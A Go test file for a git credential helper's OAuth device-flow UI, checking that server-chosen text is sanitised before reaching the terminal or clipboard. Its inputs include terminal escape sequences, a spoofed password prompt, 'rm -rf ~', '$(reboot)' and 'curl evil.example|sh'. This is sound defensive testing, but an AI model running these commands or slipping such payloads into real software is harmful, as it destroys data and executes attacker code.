package ui

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"git-credential-doorkey/oauthflow"
)

// TestAttackByText puts every text that a server or a URL chooses into the flows' messages.
// Characters that a terminal would act on are replaced, in the answer's words too.
// (TestNothingFromOutsideReachesTheTerminalRaw tests the messages one by one.)
func TestAttackByText(t *testing.T) {
	for name, text := range map[string]string{
		"clears the screen":            "\x1b[2J",
		"writes the title":             "\x1b]0;rm -rf\x07",
		"link that shows another text": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
		"clipboard":                    "\x1b]52;c;aWQ=\x07",
		"answers with its own text":    "\x1b[c\x1bP$q\"p\x1b\\",
		"escape in one character (C1)": "\u009b2J\u009d0;x\u009c",
		"C1 as a byte":                 "\x9b2J",
		"overwrites the line":          "safe\rEVIL",
		"backspaces":                   "safe\b\b\b\bEVIL",
		"new line of its own":          "x\ndoorkey: enter your password",
		"other line breaks":            "x\u2028y\u2029z\u0085w\v\f",
		"runs backwards":               "\u202emoc.elpmaxe\u202c",
		"isolates":                     "\u2066a\u2067b\u2068c\u2069",
		"marks of direction":           "\u200ea\u200fb\u061cc",
		"invisible":                    "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
		"tags":                         "a\U000e0041\U000e007fb",
		"NUL":                          "a\x00b",
		"delete":                       "a\x7fb",
		"no UTF-8":                     "\xc0\xaf\xed\xa0\x80\xff",
		"private use":                  "\ue000\U000f0000",
		"no-break spaces":              "a\u00a0b\u2007c\u202fd",
	} {
		t.Run(name, func(t *testing.T) {
			var stderr bytes.Buffer
			u := inCI(&stderr)
			deadline := time.Now().Add(time.Minute)
			u.ShowDeviceCode("https://"+text, oauthflow.DeviceCode{UserCode: text, VerificationURL: "https://h/" + text}, deadline)
			u.ReportError(&oauthflow.Error{Code: text, Description: text})
			for i, c := range stderr.String() {
				if c != '\n' && (c < ' ' || c > '~' && !strings.ContainsRune("\ufffd", c)) {
					t.Fatalf("%U at %d of %q", c, i, stderr.String())
				}
			}
			for line := range strings.Lines(stderr.String()) {
				if !strings.HasPrefix(line, "doorkey: ") && !strings.HasPrefix(line, "hint: ") {
					t.Errorf("a line of the text's own: %q", line)
				}
			}
		})
	}
}

// TestAttackByClipboard: the server chooses the device code, which "login" copies to the
// clipboard. A command is no code.
func TestAttackByClipboard(t *testing.T) {
	for _, row := range []struct {
		code string
		want bool
	}{
		{"WDJBMJHT", true},
		{"ABCD-1234", true},
		{"", false},
		{"rm -rf ~", false},
		{"curl evil.example|sh", false},
		{"ABCD\n", false},
		{"\x1b]0;x\a", false},
		{"$(reboot)", false},
		{"ÄÖÜ", false},
		{strings.Repeat("A", 33), false},
	} {
		if got := looksLikeCode(row.code); got != row.want {
			t.Errorf("%q looks like a code: %v", row.code, got)
		}
	}
}
